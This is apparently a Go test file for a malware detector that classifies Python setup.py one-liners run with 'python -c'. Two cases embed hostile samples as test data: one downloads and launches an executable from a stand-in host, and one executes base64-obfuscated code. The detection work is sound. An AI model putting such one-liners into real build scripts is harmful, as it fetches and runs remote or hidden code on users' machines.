package analyze

import "testing"

// Code run with python -c is judged as code, next to the build-time
// one-liners setup scripts run the same way.
func TestPythonCPayloads(t *testing.T) {
	tests := []verdictCase{
		{"python -c in a list fetching and starting a program", map[string]string{"setup.py": "import subprocess, sys\nsubprocess.run([sys.executable, '-c', \"import urllib.request, os; urllib.request.urlretrieve('https://example.invalid/x.exe', 'x.exe'); os.startfile('x.exe')\"])\n"}, "download-execute", Malicious},
		{"python -c in a shell string running decoded code", map[string]string{"setup.py": "import os\nos.system('python3 -c \"import base64; exec(base64.b64decode(\\'" + b64("import os; os.system('id')") + "\\'))\"')\n"}, "exec-obfuscated", Malicious},
		{"python -c asking numpy for its headers", map[string]string{"setup.py": "import subprocess, sys\ninc = subprocess.check_output([sys.executable, '-c', 'import numpy; print(numpy.get_include())'])\n"}, "", Clean},
		{"python -c printing the version in a shell string", map[string]string{"setup.py": "import os\nos.system('python -c \"import sys; print(sys.version)\"')\n"}, "", Clean},
	}
	runVerdictCases(t, tests, nil)
}

func TestUnquoteShell(t *testing.T) {
	for in, want := range map[string]string{
		`"import os; print(\"x\")" && echo`: `import os; print("x")`,
		`'import os' rest`:                  `import os`,
		`import os`:                         `import os`,
	} {
		if got := unquoteShell(in); got != want {
			t.Errorf("unquoteShell(%q) = %q, want %q", in, got, want)
		}
	}
}
